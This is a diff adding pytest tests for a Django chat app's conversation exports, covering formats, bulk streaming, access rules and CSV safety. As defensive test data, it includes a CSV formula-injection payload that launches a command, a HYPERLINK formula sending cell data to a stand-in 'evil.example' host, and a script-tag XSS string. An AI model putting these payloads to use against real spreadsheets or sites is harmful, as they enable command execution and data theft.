@@ -1,0 +1,306 @@
+"""Conversation exports (docs/export.md): formats, streaming bulk export, CSV safety, access."""
+from __future__ import annotations
+
+import csv
+import datetime as dt
+import io
+import json
+from typing import Any
+
+import pytest
+from django.core.management import call_command
+
+from accounts import roles
+from chat import exports, services
+from chat.models import Conversation, Message
+from tests.accounts.support import FAST_HASHERS, Browser, make_user
+
+pytestmark = pytest.mark.django_db
+
+CHINESE = "我的包裹在哪里？请尽快回复，谢谢！"
+MARKDOWN = "**Tracking**\n\n- step one\n- step two\n\n```\ncode <b>bold</b>\n```"
+SCRIPT = "<script>alert('x')</script> and <b>bold</b>"
+
+
+@pytest.fixture(autouse=True)
+def _fast_passwords(settings: Any) -> None:
+    settings.PASSWORD_HASHERS = FAST_HASHERS
+
+
+def add(conversation: Conversation, seq: int, role: str, content: str, **fields: Any) -> Message:
+    return Message.objects.create(conversation=conversation, seq=seq, role=role, content=content, **fields)
+
+
+def seeded(owner: Browser, title: str = "Parcel 包裹", status: str = Conversation.Status.OPEN) -> Conversation:
+    persona = services.ensure_default_persona()
+    conversation = services.create_conversation(owner.actor)
+    conversation.title = title
+    conversation.status = status
+    conversation.save()
+    add(conversation, 1, Message.Role.USER, CHINESE)
+    add(conversation, 2, Message.Role.ASSISTANT, MARKDOWN, model="qwen-test", persona=persona, finish_reason="stop",
+        prompt_tokens=120, completion_tokens=40, ttft_ms=180, duration_ms=2100, superseded=True)
+    add(conversation, 3, Message.Role.ASSISTANT, "Partial answ", status=Message.Status.STOPPED, model="qwen-test",
+        persona=persona, finish_reason="stopped", completion_tokens=3)
+    add(conversation, 4, Message.Role.ASSISTANT, "", status=Message.Status.FAILED, error_code="engine_unavailable",
+        persona=persona)
+    add(conversation, 5, Message.Role.USER, SCRIPT)
+    return conversation
+
+
+@pytest.fixture
+def owner() -> Browser:
+    return Browser.logged_in(make_user("owner@example.com"))
+
+
+@pytest.fixture
+def conversation(owner: Browser) -> Conversation:
+    return seeded(owner)
+
+
+@pytest.fixture
+def agent() -> Browser:
+    return Browser.logged_in(make_user("agent@example.com", role=roles.AGENT, mfa=True))
+
+
+def body(response: Any) -> str:
+    if response.streaming:
+        return b"".join(response.streaming_content).decode("utf-8")
+    return response.content.decode("utf-8")
+
+
+# --- One conversation -----------------------------------------------------------------------------
+
+
+def test_json_export_round_trips(owner: Browser, conversation: Conversation) -> None:
+    response = owner.client.get(f"/c/{conversation.public_id}/export/json/")
+    assert response.status_code == 200
+    assert response["Content-Type"] == "application/json; charset=utf-8"
+    assert response["Content-Disposition"] == f'attachment; filename="anyhour-{conversation.public_id}.json"'
+    data = json.loads(response.content.decode("utf-8"))
+    assert data["schema"] == "anyhour.conversation/v1"
+    assert set(data["conversation"]) == set(exports.CONVERSATION_FIELDS)
+    assert all(set(m) == set(exports.MESSAGE_FIELDS) for m in data["messages"])
+    assert CHINESE.encode("utf-8") in response.content  # UTF-8, not \u escapes
+    parsed = exports.conversation_from_dict(data)
+    conversation.refresh_from_db()
+    assert parsed.id == conversation.public_id and parsed.title == "Parcel 包裹" and parsed.status == "open"
+    assert parsed.created_at == conversation.created_at and parsed.updated_at == conversation.updated_at
+    assert parsed.persona == conversation.persona.slug
+    saved = list(conversation.messages.order_by("seq"))
+    assert len(parsed.messages) == len(saved) == 5
+    for exported, message in zip(parsed.messages, saved, strict=True):
+        assert exported.seq == message.seq
+        assert exported.role == message.role
+        assert exported.content == message.content
+        assert exported.status == message.status
+        assert exported.created_at == message.created_at
+        assert exported.created_at.utcoffset() == dt.timedelta(0)
+        assert exported.model == (message.model or None)
+        assert exported.persona == (message.persona.slug if message.persona else None)
+        assert exported.finish_reason == (message.finish_reason or None)
+        assert exported.prompt_tokens == message.prompt_tokens
+        assert exported.completion_tokens == message.completion_tokens
+        assert exported.ttft_ms == message.ttft_ms
+        assert exported.duration_ms == message.duration_ms
+        assert exported.error_code == (message.error_code or None)
+        assert exported.superseded == message.superseded
+    assert [m.status for m in parsed.messages][2:4] == ["stopped", "failed"]
+    assert parsed.messages[3].error_code == "engine_unavailable"
+    for stamp in [data["conversation"]["created_at"], *(m["created_at"] for m in data["messages"])]:
+        assert stamp.endswith("+00:00")
+
+
+def test_from_dict_rejects_other_schemas() -> None:
+    with pytest.raises(ValueError):
+        exports.conversation_from_dict({"schema": "anyhour.conversation/v2", "conversation": {}, "messages": []})
+    with pytest.raises(ValueError):
+        exports.conversation_from_dict({"schema": exports.SCHEMA, "conversation": {"id": "x"}, "messages": []})
+
+
+@pytest.mark.parametrize(
+    "fmt, content_type", [("md", "text/markdown; charset=utf-8"), ("txt", "text/plain; charset=utf-8")]
+)
+def test_markdown_and_text_exports(owner: Browser, conversation: Conversation, fmt: str, content_type: str) -> None:
+    response = owner.client.get(f"/c/{conversation.public_id}/export/{fmt}/")
+    assert response.status_code == 200
+    assert response["Content-Type"] == content_type
+    assert response["Content-Disposition"].startswith("attachment;")
+    text = response.content.decode("utf-8")
+    assert "Parcel 包裹" in text
+    for content in (CHINESE, MARKDOWN, "Partial answ", SCRIPT):
+        assert content in text
+    assert "stopped" in text and "failed: engine_unavailable" in text and "superseded" in text
+    assert "Customer" in text and "Assistant" in text
+
+
+def test_unknown_format_is_404(owner: Browser, conversation: Conversation) -> None:
+    assert owner.client.get(f"/c/{conversation.public_id}/export/pdf/").status_code == 404
+
+
+def test_print_page_escapes_html_and_keeps_line_breaks(owner: Browser, conversation: Conversation) -> None:
+    response = owner.client.get(f"/c/{conversation.public_id}/print/")
+    assert response.status_code == 200
+    html = response.content.decode("utf-8")
+    assert "<script>" not in html and "<b>bold</b>" not in html
+    assert "&lt;script&gt;alert(&#x27;x&#x27;)&lt;/script&gt;" in html
+    assert "- step one\n- step two" in html  # Markdown as text, line breaks kept (pre-wrap)
+    assert CHINESE in html
+    assert 'href="/static/chat/print.' in html
+    assert "Customer" in html and "Assistant" in html and "UTC" in html
+
+
+# --- Access ---------------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("path", ["export/json/", "export/md/", "export/txt/", "print/"])
+def test_single_export_access(owner: Browser, conversation: Conversation, agent: Browser, path: str) -> None:
+    url = f"/c/{conversation.public_id}/{path}"
+    assert owner.client.get(url).status_code == 200
+    assert agent.client.get(url).status_code == 200
+    assert Browser.logged_in(make_user("other@example.com")).client.get(url).status_code == 404
+    assert Browser.guest().client.get(url).status_code == 404
+    assert owner.client.get(f"/c/nope-{conversation.public_id}/{path}").status_code == 404
+
+
+def test_guest_exports_own_conversation() -> None:
+    guest = Browser.guest()
+    conversation = seeded(guest)
+    response = guest.client.get(f"/c/{conversation.public_id}/export/json/")
+    assert response.status_code == 200
+    assert len(json.loads(response.content)["messages"]) == 5
+
+
+def test_agent_without_mfa_is_sent_to_mfa_setup(conversation: Conversation) -> None:
+    agent = Browser.logged_in(make_user("nomfa@example.com", role=roles.AGENT))
+    response = agent.client.get(f"/c/{conversation.public_id}/export/json/")
+    assert response.status_code == 302 and response["Location"].startswith("/accounts/2fa/")
+    assert agent.client.get("/transcripts/export.csv").status_code == 302
+
+
+def test_bulk_export_is_for_agents_and_admins(owner: Browser, conversation: Conversation, agent: Browser) -> None:
+    assert owner.client.get("/transcripts/export.jsonl").status_code == 403
+    assert owner.client.get("/transcripts/export.csv").status_code == 403
+    assert Browser.guest().client.get("/transcripts/export.csv").status_code == 403
+    assert agent.client.get("/transcripts/export.csv").status_code == 200
+    admin = Browser.logged_in(make_user("admin@example.com", role=roles.ADMIN, mfa=True))
+    assert admin.client.get("/transcripts/export.jsonl").status_code == 200
+    assert agent.client.get("/transcripts/export.xml").status_code == 404
+
+
+# --- Bulk -----------------------------------------------------------------------------------------
+
+
+def test_bulk_jsonl_streams_all_messages(conversation: Conversation, agent: Browser) -> None:
+    other = seeded(Browser.guest(), title="Second")
+    response = agent.client.get("/transcripts/export.jsonl")
+    assert response.status_code == 200
+    assert response.streaming is True
+    assert response["Content-Type"] == "application/x-ndjson; charset=utf-8"
+    assert response["Content-Disposition"].startswith('attachment; filename="anyhour-transcripts-')
+    rows = [json.loads(line) for line in body(response).splitlines()]
+    assert len(rows) == 10
+    assert [(r["conversation_id"], r["seq"]) for r in rows] == [
+        *((conversation.public_id, seq) for seq in range(1, 6)), *((other.public_id, seq) for seq in range(1, 6))
+    ]
+    assert list(rows[0]) == list(exports.BULK_COLUMNS)
+    assert rows[0]["content"] == CHINESE and rows[0]["conversation_title"] == "Parcel 包裹"
+    assert rows[3]["status"] == "failed" and rows[3]["error_code"] == "engine_unavailable"
+    assert all(r["created_at"].endswith("+00:00") for r in rows)
+
+
+def test_bulk_filters(conversation: Conversation, agent: Browser) -> None:
+    closed = seeded(Browser.guest(), title="Closed one", status=Conversation.Status.CLOSED)
+    old = seeded(Browser.guest(), title="Old")
+    old.messages.update(created_at=dt.datetime(2024, 3, 10, 23, 30, tzinfo=dt.UTC))
+
+    def ids(query: str) -> set[str]:
+        response = agent.client.get(f"/transcripts/export.jsonl?{query}")
+        assert response.status_code == 200 and response.streaming
+        return {json.loads(line)["conversation_id"] for line in body(response).splitlines()}
+
+    assert ids("status=closed") == {closed.public_id}
+    assert ids("status=open") == {conversation.public_id, old.public_id}
+    assert ids("since=2024-03-10&until=2024-03-10") == {old.public_id}
+    assert ids("until=2024-03-09") == set()
+    assert ids("since=2024-03-11") == {conversation.public_id, closed.public_id}
+    assert ids("since=2024-03-11&status=open") == {conversation.public_id}
+    for bad in ("since=yesterday", "status=archived", "since=2024-03-12&until=2024-03-11"):
+        assert agent.client.get(f"/transcripts/export.csv?{bad}").status_code == 400
+
+
+def test_bulk_csv_is_quoted_and_safe_against_formulas(owner: Browser, agent: Browser) -> None:
+    conversation = services.create_conversation(owner.actor)
+    conversation.title = "=cmd|' /C calc'!A0"
+    conversation.save()
+    dangerous = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+1", "-1", "@SUM(A1:A9)", "\tTab", "\rCR"]
+    for seq, text in enumerate(dangerous, start=1):
+        add(conversation, seq, Message.Role.USER, text)
+    add(conversation, 7, Message.Role.USER, 'Plain, "quoted"\nsecond line 第二行')
+    response = agent.client.get("/transcripts/export.csv")
+    assert response.status_code == 200 and response.streaming is True
+    assert response["Content-Type"] == "text/csv; charset=utf-8"
+    text = body(response)
+    rows = list(csv.reader(io.StringIO(text, newline="")))
+    assert rows[0] == list(exports.BULK_COLUMNS)
+    data = [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]
+    assert [row["content"] for row in data] == ["'" + t for t in dangerous] + ['Plain, "quoted"\nsecond line 第二行']
+    assert all(row["conversation_title"] == "'=cmd|' /C calc'!A0" for row in data)
+    assert all(row["created_at"].endswith("+00:00") for row in data)
+    assert data[0]["superseded"] == "false" and data[0]["prompt_tokens"] == ""
+    # No cell of the file starts with a formula character.
+    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)
+
+
+def test_safe_cell() -> None:
+    assert exports.safe_cell("=1+1") == "'=1+1"
+    assert exports.safe_cell("a=1") == "a=1"
+    assert exports.safe_cell(-1) == "'-1"
+    assert exports.safe_cell(None) == ""
+    assert exports.safe_cell(True) == "true"
+
+
+# --- The management command -----------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("fmt", ["jsonl", "csv"])
+def test_command_writes_the_same_rows_as_the_view(
+    conversation: Conversation, agent: Browser, tmp_path: Any, fmt: str
+) -> None:
+    seeded(Browser.guest(), title="Closed", status=Conversation.Status.CLOSED)
+    view = body(agent.client.get(f"/transcripts/export.{fmt}?status=open&since=2000-01-01"))
+    output = tmp_path / f"out.{fmt}"
+    err = io.StringIO()
+    call_command("export_transcripts", "--format", fmt, "--status", "open", "--since", "2000-01-01",
+                 "--output", str(output), "--progress", stderr=err)
+    assert output.read_bytes().decode("utf-8") == view
+    assert "5/5 messages" in err.getvalue() and f"wrote 5 message(s) to {output}" in err.getvalue()
+    out = io.StringIO()
+    call_command("export_transcripts", "--format", fmt, "--status", "open", "--since", "2000-01-01", stdout=out,
+                 stderr=io.StringIO())
+    assert out.getvalue() == view
+
+
+def test_command_rejects_bad_filters() -> None:
+    from django.core.management.base import CommandError
+
+    with pytest.raises(CommandError):
+        call_command("export_transcripts", "--since", "not-a-date", stdout=io.StringIO())
+
+
+@pytest.mark.django_db(transaction=True)
+async def test_bulk_export_streams_lazily_under_asgi(owner: Browser) -> None:
+    # Under ASGI a sync iterator would be read whole into a list; the view hands Django an
+    # async iterator instead.
+    from asgiref.sync import sync_to_async
+    from django.test import AsyncClient
+
+    conversation = await sync_to_async(seeded)(owner)
+    agent = await sync_to_async(make_user)("agent.asgi@example.com", role=roles.AGENT, mfa=True)
+    client = AsyncClient()
+    await client.aforce_login(agent)
+    response = await client.get("/transcripts/export.jsonl")
+    assert response.status_code == 200 and response.streaming and response.is_async
+    text = b"".join([chunk async for chunk in response.streaming_content]).decode("utf-8")
+    assert [json.loads(line)["seq"] for line in text.splitlines()] == [1, 2, 3, 4, 5]
+    assert json.loads(text.splitlines()[0])["conversation_id"] == conversation.public_id
